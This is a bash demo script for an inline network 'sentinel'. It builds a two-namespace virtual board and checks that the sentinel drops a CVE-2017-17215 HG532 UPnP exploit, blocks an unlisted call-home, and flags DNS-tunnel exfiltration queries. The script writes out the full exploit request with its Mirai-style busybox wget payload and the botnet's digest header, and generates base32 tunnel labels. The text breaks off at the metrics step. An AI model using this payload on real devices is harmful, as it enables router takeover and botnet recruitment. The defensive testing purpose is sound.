#!/usr/bin/env bash
# The Sentinel demo (`make demo`): builds the virtual board (namespaces "vendor" and
# "core" joined only through the sentinel), runs real traffic across it, sends an exploit
# for the vendor box's HG532 UPnP service (CVE-2017-17215) that the shipped signatures
# drop and log to eve.json while ordinary HTTP keeps working, lets the vendor box try to call
# home to an address its communication policy (board/demo/demo-policy.toml) does not list,
# which the sentinel stops and logs, lets it smuggle data out in DNS queries to the resolver
# it may use, which the shipped dns_tunnel eBPF filter flags while ordinary lookups pass
# unremarked, then stops the sentinel to show that it is inline: with
# it gone, the two sides cannot talk at all.
#
# Usage: demo.sh SENTINEL_BINARY        (as root; ends by itself in well under a minute)
set -euo pipefail

die() { echo "demo: error: $*" >&2; exit 1; }

[[ $# -eq 1 ]] || { echo "usage: $0 SENTINEL_BINARY" >&2; exit 2; }
[[ $(id -u) -eq 0 ]] || die "must run as root (network namespaces, raw sockets)"
[[ -x $1 ]] || die "sentinel binary '$1' not found or not executable (build it first)"
SENTINEL=$(realpath "$1")
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
TOPOLOGY=$HERE/topology.sh
# The shipped signatures (config/rules.d of this repository).
RULES_DIR=$(realpath -m "$HERE/../../config/rules.d")
[[ -d $RULES_DIR ]] || die "rule directory '$RULES_DIR' not found"
# The demo board's communication policy, loaded with -s beside the shipped signatures: it
# names the board's addresses, so it is no part of config/rules.d (see the file).
POLICY=$HERE/demo-policy.toml
[[ -f $POLICY ]] || die "policy file '$POLICY' not found"
# Debian's interpreter: the python3 on PATH may be another one (pyenv).
PYTHON=/usr/bin/python3
for tool in ip ethtool ping curl sha256sum realpath "$PYTHON"; do
    command -v "$tool" >/dev/null || die "missing tool: $tool"
done

# The demo board: PREFIX "" gives these names (see topology.sh).
readonly VENDOR_NS=vendor CORE_NS=core VENDOR_PORT=sv-vendor CORE_PORT=sv-core
readonly CORE_V4=198.51.100.1 CORE_V6=2001:db8:51::1 VENDOR_V4=198.51.100.2 VENDOR_V6=2001:db8:51::2
readonly HTTP_PORT=8080 FILE_MIB=20
# The vendor box's UPnP service (Huawei HG532: port 37215) and the rule that guards it
# (config/rules.d/vendor-equipment.toml): action drop, so the attack's flow dies.
readonly UPNP_PORT=37215 EXPLOIT_SID=2017172150
# curl's limit for each request to the vendor box; the exploit is expected to hit it.
readonly REQUEST_TIMEOUT_S=5
# How long the demo waits for the alert to appear in eve.json.
readonly ALERT_TIMEOUT_S=5
readonly FORWARDING_TIMEOUT_S=30
readonly METRICS_LISTEN=127.0.0.1:9752
# Where the vendor box tries to call home: an address no [[allow]] of the policy lists, put
# on core's side (TEST-NET-3, on-link for the vendor box). The policy's default is drop.
readonly HOME_NET=203.0.113.0/24 HOME_V4=203.0.113.10 HOME_PORT=80 POLICY_SID=1000001
readonly CALL_HOME_TIMEOUT_S=4
# The resolver the vendor box may query (an [[allow]] of the demo policy), and the sid of the
# shipped DNS-tunnel filter (config/rules.d/covert-channels.toml, gid 3).
readonly DNS_PORT=53 DNS_TUNNEL_SID=3000002
# The shipped C filters, as this build made them (the objects the rules name).
FILTERS_DIR=$(realpath -m "$(dirname "$SENTINEL")/../bpf")

# Headings in bold when a human is watching.
if [[ -t 1 ]]; then B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' N=$'\e[0m'; else B='' G='' R='' N=''; fi
step_no=0
step() { step_no=$((step_no + 1)); printf '\n%s[%d] %s%s\n' "$B" "$step_no" "$*" "$N"; }
say() { printf '    %s\n' "$*"; }
indent() { sed -u 's/^/    | /'; }               # quote a program's output
cmd() { printf '    $ %s\n' "$*"; }              # show a command before running it
# Show a command, run it, quote its output; the status is the command's (pipefail).
run_quoted() { cmd "$@"; "$@" 2>&1 | indent; }
failures=0
pass() { printf '    %sPASS%s %s\n' "$G" "$N" "$*"; }
fail() { printf '    %sFAIL%s %s\n' "$R" "$N" "$*"; failures=$((failures + 1)); }

tmp=$(mktemp -d /tmp/sentinel-demo.XXXXXX)
out=$tmp/sentinel.out
sentinel_pid=''
http_pid=''
curl_pid=''
upnp_pid=''
home_pid=''
dns_pid=''

# Stop a background process we started: TERM, up to $2 seconds' grace, then KILL.
stop_pid() {
    local pid=$1 grace=${2:-5} i
    kill -0 "$pid" 2>/dev/null || return 0
    kill -TERM "$pid" 2>/dev/null || true
    for ((i = 0; i < grace * 10; i++)); do
        kill -0 "$pid" 2>/dev/null || return 0
        sleep 0.1
    done
    kill -KILL "$pid" 2>/dev/null || true
}

# Runs on every exit (normal end, failure, Ctrl-C): leave the machine as we found it.
cleanup() {
    local rc=$?
    trap - EXIT
    trap '' INT TERM    # a second Ctrl-C must not interrupt the teardown
    [[ -z $sentinel_pid ]] || stop_pid "$sentinel_pid" 5
    [[ -z $http_pid ]] || stop_pid "$http_pid" 2
    [[ -z $curl_pid ]] || stop_pid "$curl_pid" 2
    [[ -z $upnp_pid ]] || stop_pid "$upnp_pid" 2
    [[ -z $home_pid ]] || stop_pid "$home_pid" 2
    [[ -z $dns_pid ]] || stop_pid "$dns_pid" 2
    printf '\n%s[teardown]%s removing the virtual board\n' "$B" "$N"
    "$TOPOLOGY" down "" 2>&1 | indent || true
    rm -rf "$tmp/www" "$tmp/download.bin"
    if (( rc == 0 )); then
        rm -rf "$tmp"
    else
        say "logs kept in $tmp"
    fi
    exit "$rc"
}
trap cleanup EXIT
trap 'printf "\ninterrupted\n"; exit 130' INT TERM

step "Build the virtual board: namespaces '$VENDOR_NS' and '$CORE_NS', veth ends '$VENDOR_PORT' and '$CORE_PORT' for the sentinel"
"$TOPOLOGY" up "" | indent
say "The two sides share one subnet but no wire: only the sentinel can carry frames between them."

step "Write a demo config"
mkdir -p "$tmp/log"
cat >"$tmp/sentinel.toml" <<EOF
# Sentinel demo: inline between the vendor and core namespaces, on AF_PACKET ports.
[ports]
vendor = "net_af_packet0,iface=${VENDOR_PORT},framecnt=4096"
core = "net_af_packet1,iface=${CORE_PORT},framecnt=4096"

[dataplane]
workers = 1
hugepages = "off"

[log]
dir = "$tmp/log"
level = "info"
stats_interval = 1

[metrics]
listen = "$METRICS_LISTEN"

[network]
# The vendor box's own addresses (the board's subnet is shared with core): a frame from the
# vendor port with any other source is dropped as spoofed_source.
vendor_nets = ["$VENDOR_V4/32", "$VENDOR_V6/128"]

[rules]
# A copy of the shipped signatures (the hot-reload step adds a file to it); no compiled-
# database cache, so the demo leaves nothing behind. The communication policy comes with -s
# (board/demo/demo-policy.toml). The eBPF filters the shipped rules name are found in this
# build's directory. Changes to the rule files are reloaded 200 ms after the last one.
dir = "$tmp/rules.d"
cache_dir = ""
filters_dir = "$FILTERS_DIR"
reload_debounce_ms = 200
EOF
mkdir -p "$tmp/rules.d"
cp "$RULES_DIR"/*.toml "$tmp/rules.d/"
say "$tmp/sentinel.toml:"
indent <"$tmp/sentinel.toml"
say "and the communication policy, $POLICY (comments left out):"
grep -v '^[[:space:]]*#' "$POLICY" | sed 's/[[:space:]]*#.*//' | cat -s | indent

step "Start the sentinel in the background"
cmd "$SENTINEL" -c "$tmp/sentinel.toml" -s "$POLICY"
"$SENTINEL" -c "$tmp/sentinel.toml" -s "$POLICY" >"$out" 2>&1 </dev/null &
sentinel_pid=$!
say "output goes to $out; waiting (up to ${FORWARDING_TIMEOUT_S} s) for it to log 'forwarding'"
deadline=$((SECONDS + FORWARDING_TIMEOUT_S))
until grep -q forwarding "$out"; do
    if ! kill -0 "$sentinel_pid" 2>/dev/null; then
        rc=0; wait "$sentinel_pid" || rc=$?
        sentinel_pid=''
        echo "demo: error: the sentinel exited (status $rc) before forwarding; its output:" >&2
        indent <"$out" >&2
        exit 1
    fi
    if (( SECONDS >= deadline )); then
        echo "demo: error: the sentinel did not log 'forwarding' within ${FORWARDING_TIMEOUT_S} s; its output:" >&2
        indent <"$out" >&2
        exit 1
    fi
    sleep 0.2
done
say "sentinel output so far:"
grep -v '^stats:' "$out" | indent || true

step "Ping core from vendor through the sentinel (IPv4, then IPv6)"
# -w: wait up to 10 s for all replies, so a slow first ARP/ND exchange is not a failure.
if run_quoted ip netns exec "$VENDOR_NS" ping -c 5 -i 0.5 -w 10 "$CORE_V4"; then
    pass "IPv4 ping vendor -> core"
else
    fail "IPv4 ping vendor -> core"
fi
if run_quoted ip netns exec "$VENDOR_NS" ping -6 -c 3 -i 0.5 -w 10 "$CORE_V6"; then
    pass "IPv6 ping vendor -> core"
else
    fail "IPv6 ping vendor -> core"
fi

step "Serve a fresh ${FILE_MIB} MiB random file over HTTP from core; download it from vendor"
mkdir -p "$tmp/www"
head -c "$((FILE_MIB * 1024 * 1024))" /dev/urandom >"$tmp/www/random.bin"
want=$(sha256sum <"$tmp/www/random.bin" | cut -d' ' -f1)
say "sha256 of the file on core: $want"
cmd ip netns exec "$CORE_NS" "$PYTHON" -m http.server "$HTTP_PORT" --bind "$CORE_V4" --directory www
ip netns exec "$CORE_NS" "$PYTHON" -m http.server "$HTTP_PORT" --bind "$CORE_V4" \
    --directory "$tmp/www" >"$tmp/http.log" 2>&1 </dev/null &
http_pid=$!
# Ready when it answers inside its own namespace (this does not cross the sentinel).
for _ in $(seq 1 50); do
    ip netns exec "$CORE_NS" curl -s -o /dev/null --max-time 1 "http://$CORE_V4:$HTTP_PORT/" && break
    kill -0 "$http_pid" 2>/dev/null || { indent <"$tmp/http.log"; die "the HTTP server did not start"; }
    sleep 0.2
done
url="http://$CORE_V4:$HTTP_PORT/random.bin"
say "downloading (rate-limited to 5 MB/s so the live counters have time to move):"
cmd ip netns exec "$VENDOR_NS" curl --limit-rate 5M -o download.bin "$url"
ip netns exec "$VENDOR_NS" curl -sS --max-time 40 --limit-rate 5M -o "$tmp/download.bin" "$url" \
    2>"$tmp/curl.err" &
curl_pid=$!
say "the sentinel's live stats lines meanwhile:"
# Follow the sentinel's output until curl ends; stats lines only.
tail -n 0 -s 0.2 --pid="$curl_pid" -f "$out" | grep --line-buffered 'stats:' | indent || true
rc=0; wait "$curl_pid" || rc=$?
curl_pid=''
if (( rc != 0 )); then
    indent <"$tmp/curl.err"
    fail "HTTP download vendor <- core (curl exit $rc)"
else
    got=$(sha256sum <"$tmp/download.bin" | cut -d' ' -f1)
    say "sha256 of the download on vendor: $got"
    if [[ $got == "$want" ]]; then
        pass "${FILE_MIB} MiB over TCP, sha256 matches"
    else
        fail "${FILE_MIB} MiB over TCP, sha256 differs"
    fi
fi
stop_pid "$http_pid" 2; http_pid=''

step "Start a stand-in for the vendor box's Huawei HG532 UPnP service (vendor, port $UPNP_PORT)"
# Answers GET and POST (the UPnP control requests are SOAP POSTs) and logs every request
# with its body, so the demo can tell what reached the vendor box.
cat >"$tmp/hg532.py" <<'EOF'
import http.server
import sys

SOAP_OK = (b'<?xml version="1.0"?>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
           b'<s:Body><u:UpgradeResponse xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"/>'
           b'</s:Body></s:Envelope>\n')
PAGE = b"<html><body>HG532 (demo stand-in): UPnP control on this port</body></html>\n"


class Handler(http.server.BaseHTTPRequestHandler):
    server_version = "HG532-stand-in/1.0"
    timeout = 30  # a stalled connection (a dropped flow) must not hold its thread forever

    def answer(self, body, ctype):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.answer(PAGE, "text/html")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        print(f"POST {self.path} body: {body.decode(errors='replace')!r}", file=sys.stderr, flush=True)
        self.answer(SOAP_OK, 'text/xml; charset="utf-8"')

    def log_message(self, fmt, *args):
        print(f"{self.client_address[0]} {fmt % args}", file=sys.stderr, flush=True)


http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
EOF
cmd ip netns exec "$VENDOR_NS" "$PYTHON" hg532.py "$VENDOR_V4" "$UPNP_PORT"
ip netns exec "$VENDOR_NS" "$PYTHON" "$tmp/hg532.py" "$VENDOR_V4" "$UPNP_PORT" \
    >"$tmp/hg532.log" 2>&1 </dev/null &
upnp_pid=$!
# Ready when it answers inside its own namespace (this does not cross the sentinel).
for _ in $(seq 1 50); do
    ip netns exec "$VENDOR_NS" curl -s -o /dev/null --max-time 1 "http://$VENDOR_V4:$UPNP_PORT/" && break
    kill -0 "$upnp_pid" 2>/dev/null || { indent <"$tmp/hg532.log"; die "the HG532 stand-in did not start"; }
    sleep 0.2
done
ip netns exec "$VENDOR_NS" curl -s -o /dev/null --max-time 1 "http://$VENDOR_V4:$UPNP_PORT/" \
    || { indent <"$tmp/hg532.log"; die "the HG532 stand-in does not answer on $VENDOR_V4:$UPNP_PORT"; }
say "listening on $VENDOR_V4:$UPNP_PORT"

upnp_url="http://$VENDOR_V4:$UPNP_PORT"
# A request from core to the vendor box, across the sentinel. Prints the HTTP status
# ("000" when no response came); the body goes to $tmp/NAME.body, curl's errors to
# $tmp/NAME.err. Its status is curl's.
request_from_core() {
    local name=$1
    shift
    ip netns exec "$CORE_NS" curl -sS --max-time "$REQUEST_TIMEOUT_S" -o "$tmp/$name.body" \
        -w '%{http_code}' "$@" 2>"$tmp/$name.err"
}
# An ordinary GET from core must get its 200.
check_ordinary_get() {
    local name=$1 what=$2 code rc=0
    cmd ip netns exec "$CORE_NS" curl --max-time "$REQUEST_TIMEOUT_S" "$upnp_url/"
    code=$(request_from_core "$name" "$upnp_url/") || rc=$?
    if (( rc == 0 )) && [[ $code == 200 ]]; then
        indent <"$tmp/$name.body"
        pass "$what (HTTP $code)"
    else
        indent <"$tmp/$name.err"
        fail "$what (curl exit $rc, HTTP ${code:-none})"
    fi
}

# The UPnP control request of the HG532 (a SOAP POST to /ctrlt/DeviceUpgrade_1), once as
# the device's own management would send it and once as the Satori/Mirai-variant exploit
# does: a shell command substitution in NewStatusURL.
soap_body() {
    cat <<EOF
<?xml version="1.0" ?>
<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">
<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">
<NewStatusURL>$1</NewStatusURL>
<NewDownloadURL>$2</NewDownloadURL>
</u:Upgrade>
</s:Body>
</s:Envelope>
EOF
}
# shellcheck disable=SC2016 # the $( ) is the attack's payload, not ours to expand
soap_body 'http://update.example.net/status' 'http://update.example.net/fw.bin' >"$tmp/upgrade.xml"
# shellcheck disable=SC2016
soap_body '$(/bin/busybox wget -g 203.0.113.7 -l /tmp/x -r /mips)' '$(echo HUAWEIUPNP)' >"$tmp/exploit.xml"
upnp_post() {
    local name=$1 file=$2
    request_from_core "$name" -X POST -H 'Expect:' -H 'Content-Type: text/xml' \
        -H 'SOAPAction: "urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade"' \
        -H 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"' \
        --data-binary "@$file" "$upnp_url/ctrlt/DeviceUpgrade_1"
}

step "Ordinary traffic from core to the vendor box passes the signatures"
check_ordinary_get get1 "HTTP GET core -> vendor:$UPNP_PORT"
say "a legitimate UPnP upgrade call: same URL, a plain status URL (the rule's pcre does not match):"
cmd ip netns exec "$CORE_NS" curl --max-time "$REQUEST_TIMEOUT_S" -X POST --data-binary @upgrade.xml \
    "$upnp_url/ctrlt/DeviceUpgrade_1"
rc=0; code=$(upnp_post upgrade "$tmp/upgrade.xml") || rc=$?
if (( rc == 0 )) && [[ $code == 200 ]]; then
    indent <"$tmp/upgrade.body"
    pass "legitimate UPnP POST core -> vendor:$UPNP_PORT (HTTP $code)"
else
    indent <"$tmp/upgrade.err"
    fail "legitimate UPnP POST core -> vendor:$UPNP_PORT (curl exit $rc, HTTP ${code:-none})"
fi

step "Attack: the HG532 UPnP command injection (CVE-2017-17215) from core to the vendor box"
say "the request body (as botnets send it; the \$( ) would run on the router):"
indent <"$tmp/exploit.xml"
cmd "ip netns exec $CORE_NS curl --max-time $REQUEST_TIMEOUT_S -X POST" \
    "-H 'Authorization: Digest username=\"dslf-config\", ...' --data-binary @exploit.xml" \
    "$upnp_url/ctrlt/DeviceUpgrade_1"
rc=0; code=$(upnp_post exploit "$tmp/exploit.xml") || rc=$?
indent <"$tmp/exploit.err"
if (( rc == 0 )); then
    indent <"$tmp/exploit.body"
    fail "the exploit got a response (HTTP $code): the sentinel did not stop it"
else
    case $rc in
        28) why="no response within ${REQUEST_TIMEOUT_S} s" ;;
        52 | 56) why="the connection ended without a response" ;;
        *) why="curl exit $rc" ;;
    esac
    pass "the exploit failed: $why (curl exit $rc, HTTP $code)"
fi
# The stand-in logs every body it reads: the payload must not be among them.
# shellcheck disable=SC2016 # literal: the start of the injected command substitution
injection='NewStatusURL>$('
if grep -qF "$injection" "$tmp/hg532.log"; then
    fail "the injected command reached the vendor box:"
    grep -F "$injection" "$tmp/hg532.log" | indent
else
    pass "the injected command never reached the vendor box (its request log has no such body)"
fi

step "The alert in eve.json ($tmp/log/eve.json)"
# Every alert of one signature in eve.json, pretty-printed; status 1 when there is none.
# With --check, also status 1 unless every one of them was blocked and dropped.
cat >"$tmp/eve_alerts.py" <<'EOF'
import json
import sys

path, sid = sys.argv[1], int(sys.argv[2])
check = "--check" in sys.argv[3:]
found = []
try:
    with open(path, encoding="utf-8") as f:
        for line in f:
            try:
                event = json.loads(line)
            except ValueError:
                continue  # a line still being written
            if event.get("event_type") == "alert" and event.get("alert", {}).get("signature_id") == sid:
                found.append(event)
except FileNotFoundError:
    pass
for event in found:
    print(json.dumps(event, indent=2))
ok = bool(found)
if check:
    ok = ok and all(e["alert"].get("action") == "blocked"
                    and e.get("sentinel", {}).get("verdict") == "dropped" for e in found)
sys.exit(0 if ok else 1)
EOF
eve_alerts() { "$PYTHON" "$tmp/eve_alerts.py" "$tmp/log/eve.json" "$EXPLOIT_SID" "$@"; }
say "waiting (up to ${ALERT_TIMEOUT_S} s) for the alert of sid $EXPLOIT_SID"
deadline=$((SECONDS + ALERT_TIMEOUT_S))
until eve_alerts >/dev/null || (( SECONDS >= deadline )); do sleep 0.2; done
say "the alert lines of sid $EXPLOIT_SID, pretty-printed:"
if eve_alerts | indent; then
    if eve_alerts --check >/dev/null; then
        pass "sid $EXPLOIT_SID alerted: action blocked, verdict dropped"
    else
        fail "sid $EXPLOIT_SID alerted, but not as blocked/dropped"
    fi
else
    fail "no alert of sid $EXPLOIT_SID in eve.json within ${ALERT_TIMEOUT_S} s"
    # Tell "never raised" from "raised but not (yet) written to the file".
    raised=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics" \
        | awk '/^sentinel_alerts_total\{/ {n += $2} END {print n + 0}') || raised='?'
    say "eve.json holds $(wc -l <"$tmp/log/eve.json" 2>/dev/null || echo 0) line(s);" \
        "the sentinel's metrics count $raised alert(s) raised (sentinel_alerts_total)"
fi

step "Ordinary HTTP to the vendor box keeps working after the attack"
check_ordinary_get get2 "HTTP GET core -> vendor:$UPNP_PORT after the attack"

# One metric's value from /metrics ('' when absent).
metric() { curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics" | awk -v m="$1" '$1 == m {print $2}'; }
# Waits up to 10 s for metric $1 to differ from $2; prints its value.
wait_metric_change() {
    local v deadline=$((SECONDS + 10))
    while (( SECONDS < deadline )); do
        v=$(metric "$1")
        [[ -n $v && $v != "$2" ]] && { echo "$v"; return 0; }
        sleep 0.1
    done
    echo "${v:-absent}"
    return 1
}

step "Hot reload: the operator pushes a new rule while the sentinel runs"
gen_before=$(metric sentinel_ruleset_generation)
reload_failures_before=$(metric 'sentinel_ruleset_reloads_total{result="failure"}')
cat >"$tmp/rules.d/zz-hotfix.toml" <<EOF
[[rule]]
sid = 9000001
msg = "demo hotfix: the HG532 debug page must not be reachable"
action = "drop"
proto = "tcp"
direction = "to_vendor"
match = [{ content = "GET /debug.cgi" }]
EOF
say "wrote $tmp/rules.d/zz-hotfix.toml:"
indent <"$tmp/rules.d/zz-hotfix.toml"
if gen=$(wait_metric_change sentinel_ruleset_generation "$gen_before"); then
    pass "inotify saw the file; generation $gen_before -> $gen (sentinel_ruleset_generation), no restart"
    grep -E 'reload \(.*(published|building)' "$out" | tail -2 | indent
else
    fail "sentinel_ruleset_generation stayed at $gen_before"
fi
rc=0; code=$(request_from_core debug "$upnp_url/debug.cgi") || rc=$?
if (( rc != 0 )); then
    pass "GET /debug.cgi core -> vendor is dropped by the new rule (curl exit $rc)"
else
    fail "GET /debug.cgi got HTTP $code: the new rule is not in force"
fi
check_ordinary_get get3 "HTTP GET core -> vendor:$UPNP_PORT under the new generation"
say "a broken file: a typo an operator could push"
printf '[[rule]]\nsid = 9000002\nmsg = "typo"\naction = "dorp"\nmatch = [{ content = "x" }]\n' >"$tmp/rules.d/zz-typo.toml"
indent <"$tmp/rules.d/zz-typo.toml"
if reload_failures=$(wait_metric_change 'sentinel_ruleset_reloads_total{result="failure"}' "$reload_failures_before"); then
    pass "the reload failed and changed nothing: generation $(metric sentinel_ruleset_generation), $reload_failures failure(s) counted"
    grep -F 'failed, generation' "$out" | tail -1 | indent
else
    fail "no failed reload counted for the broken file"
fi
rm -f "$tmp/rules.d/zz-typo.toml" "$tmp/rules.d/zz-hotfix.toml"
stop_pid "$upnp_pid" 2; upnp_pid=''

step "The vendor box tries to call home to $HOME_V4:$HOME_PORT, which its policy does not list"
say "a stand-in for the vendor's cloud on core's side: $HOME_V4 on core's eth0, on-link for the vendor box"
run_quoted ip -n "$CORE_NS" addr add "$HOME_V4/${HOME_NET#*/}" dev eth0
run_quoted ip -n "$VENDOR_NS" route add "$HOME_NET" dev eth0
mkdir -p "$tmp/home"
echo "welcome home, HG532" >"$tmp/home/beacon"
cmd ip netns exec "$CORE_NS" "$PYTHON" -m http.server "$HOME_PORT" --bind "$HOME_V4" --directory home
ip netns exec "$CORE_NS" "$PYTHON" -m http.server "$HOME_PORT" --bind "$HOME_V4" \
    --directory "$tmp/home" >"$tmp/home.log" 2>&1 </dev/null &
home_pid=$!
# Ready when it answers inside its own namespace (this does not cross the sentinel).
home_url="http://$HOME_V4:$HOME_PORT/beacon"
for _ in $(seq 1 50); do
    ip netns exec "$CORE_NS" curl -s -o /dev/null --max-time 1 "$home_url" && break
    kill -0 "$home_pid" 2>/dev/null || { indent <"$tmp/home.log"; die "the call-home server did not start"; }
    sleep 0.2
done
ip netns exec "$CORE_NS" curl -sf -o /dev/null --max-time 1 "$home_url" \
    || { indent <"$tmp/home.log"; die "the call-home server does not answer on $home_url"; }
say "it answers inside core; now the vendor box calls it, across the sentinel:"
cmd ip netns exec "$VENDOR_NS" curl --connect-timeout "$CALL_HOME_TIMEOUT_S" "$home_url"
rc=0
ip netns exec "$VENDOR_NS" curl -sS --connect-timeout "$CALL_HOME_TIMEOUT_S" \
    --max-time $((CALL_HOME_TIMEOUT_S + 2)) -o "$tmp/home.body" "$home_url" 2>"$tmp/home.err" || rc=$?
indent <"$tmp/home.err"
if (( rc == 0 )); then
    indent <"$tmp/home.body"
    fail "the vendor box reached $HOME_V4: the policy did not stop it"
elif (( rc == 28 )); then
    pass "the call home failed: no connection within ${CALL_HOME_TIMEOUT_S} s (curl exit 28; its SYN and retries dropped)"
else
    fail "the call home failed, but not by a dropped SYN (curl exit $rc)"
fi
# The server logs each request, opening with the client's address.
if grep -q "^$VENDOR_V4 " "$tmp/home.log"; then
    fail "the call-home server logged a request from the vendor box:"
    grep "^$VENDOR_V4 " "$tmp/home.log" | indent
else
    pass "the call-home server never heard from the vendor box"
fi
stop_pid "$home_pid" 2; home_pid=''

# The policy's alert (gid 2) for the call home, as written in eve.json: one line per flow.
cat >"$tmp/home_alerts.py" <<'EOF'
import json
import sys

path, dest, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
try:
    with open(path, encoding="utf-8") as f:
        for line in f:
            try:
                event = json.loads(line)
            except ValueError:
                continue  # a line still being written
            if event.get("event_type") == "alert" and event.get("alert", {}).get("gid") == 2 \
                    and event.get("dest_ip") == dest and event.get("dest_port") == port:
                print(line, end="")
except FileNotFoundError:
    pass
EOF
home_alerts() { "$PYTHON" "$tmp/home_alerts.py" "$tmp/log/eve.json" "$HOME_V4" "$HOME_PORT"; }
say "waiting (up to ${ALERT_TIMEOUT_S} s) for the policy's alert in eve.json"
deadline=$((SECONDS + ALERT_TIMEOUT_S))
until [[ -n $(home_alerts) ]] || (( SECONDS >= deadline )); do sleep 0.2; done
home_alerts >"$tmp/home_alerts.txt"
if [[ -s $tmp/home_alerts.txt ]]; then
    say "the alert line, as eve.json has it:"
    indent <"$tmp/home_alerts.txt"
    want="policy: vendor → $HOME_V4:$HOME_PORT/tcp not allowed"
    count=$(wc -l <"$tmp/home_alerts.txt")
    if "$PYTHON" -c '
import json, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
e = json.loads(lines[0])
ok = len(lines) == 1 and e["alert"]["signature"] == sys.argv[2] and e["alert"]["signature_id"] == int(sys.argv[3]) \
    and e["alert"]["action"] == "blocked" and e["sentinel"]["verdict"] == "dropped"
sys.exit(0 if ok else 1)' "$tmp/home_alerts.txt" "$want" "$POLICY_SID"; then
        pass "one alert for the flow (gid 2, sid $POLICY_SID): \"$want\", blocked, dropped"
    else
        fail "expected one alert \"$want\" (sid $POLICY_SID, blocked, dropped); found $count line(s)"
    fi
else
    fail "no policy alert for $HOME_V4:$HOME_PORT in eve.json within ${ALERT_TIMEOUT_S} s"
fi

step "The vendor box smuggles data out in DNS queries to the resolver it may use"
say "a stand-in resolver on core ($CORE_V4:$DNS_PORT/udp) that logs each query reaching it"
cat >"$tmp/resolver.py" <<'EOF'
import socket
import sys

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((sys.argv[1], int(sys.argv[2])))
with open(sys.argv[3], "a", encoding="utf-8") as log:
    while True:
        data, peer = sock.recvfrom(4096)
        log.write(f"{peer[0]} {len(data)}\n")
        log.flush()
EOF
# DNS queries for A records from the vendor box; argv[3:] are the names.
cat >"$tmp/query.py" <<'EOF'
import socket
import struct
import sys

server, port = sys.argv[1], int(sys.argv[2])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n, name in enumerate(sys.argv[3:]):
    qname = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    sock.sendto(struct.pack("!HHHHHH", 0x1000 + n, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1),
                (server, port))
EOF
# The alerts of the DNS-tunnel filter in eve.json: their count, or with "print" the lines.
cat >"$tmp/dns_alerts.py" <<'EOF'
import json
import sys

lines = []
try:
    with open(sys.argv[1], encoding="utf-8") as f:
        for line in f:
            try:
                e = json.loads(line)
            except ValueError:
                continue  # a line still being written
            if e.get("event_type") == "alert" and e["alert"]["gid"] == 3 \
                    and e["alert"]["signature_id"] == int(sys.argv[2]):
                lines.append(line)
except FileNotFoundError:
    pass
print("".join(lines), end="") if sys.argv[3:] == ["print"] else print(len(lines))
EOF
dns_alerts() { "$PYTHON" "$tmp/dns_alerts.py" "$tmp/log/eve.json" "$DNS_TUNNEL_SID" "$@"; }
: >"$tmp/resolver.log"
ip netns exec "$CORE_NS" "$PYTHON" "$tmp/resolver.py" "$CORE_V4" "$DNS_PORT" "$tmp/resolver.log" \
    >"$tmp/resolver.out" 2>&1 </dev/null &
dns_pid=$!
sleep 0.3
kill -0 "$dns_pid" 2>/dev/null || { indent <"$tmp/resolver.out"; die "the stand-in resolver did not start"; }
ordinary=(update.vendor.example.com ntp.example.org www.example.net)
# What an iodine- or dnscat-style tunnel sends: data encoded into long random-looking labels.
tunnel=()
for i in 1 2 3; do
    chunk=$(head -c 40 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
    tunnel+=("${chunk:0:60}.s${i}.t.exfil-example.com")
done
say "ordinary lookups: ${ordinary[*]}"
say "tunnel queries, e.g. ${tunnel[0]}"
cmd ip netns exec "$VENDOR_NS" python3 query.py "$CORE_V4" "$DNS_PORT" '<3 ordinary names>' '<3 tunnel names>'
ip netns exec "$VENDOR_NS" "$PYTHON" "$tmp/query.py" "$CORE_V4" "$DNS_PORT" "${ordinary[@]}" "${tunnel[@]}"
sent=$(( ${#ordinary[@]} + ${#tunnel[@]} ))
deadline=$((SECONDS + ALERT_TIMEOUT_S))
until (( $(dns_alerts) >= ${#tunnel[@]} && $(wc -l <"$tmp/resolver.log") >= sent )) || (( SECONDS >= deadline )); do
    sleep 0.2
done
sleep 0.5  # an alert for an ordinary lookup would come with the others
received=$(wc -l <"$tmp/resolver.log")
flagged=$(dns_alerts)
say "the filter's alert for the first tunnel query, as eve.json has it:"
dns_alerts print | head -n 1 | indent
if (( received == sent )); then
    pass "all $received queries reached the resolver (the shipped filter's action is alert: it reports, it does not cut)"
else
    fail "the resolver received $received of $sent queries"
fi
if (( flagged == ${#tunnel[@]} )); then
    pass "dns_tunnel flagged exactly the ${#tunnel[@]} tunnel queries (gid 3, sid $DNS_TUNNEL_SID), none of the ordinary lookups"
else
    fail "dns_tunnel raised $flagged alert(s); expected ${#tunnel[@]}, one per tunnel query"
fi
stop_pid "$dns_pid" 2; dns_pid=''

step "What Prometheus sees: the sentinel's /metrics (management address $METRICS_LISTEN)"
cmd curl -s "http://$METRICS_LISTEN/metrics"
if metrics=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics"); then
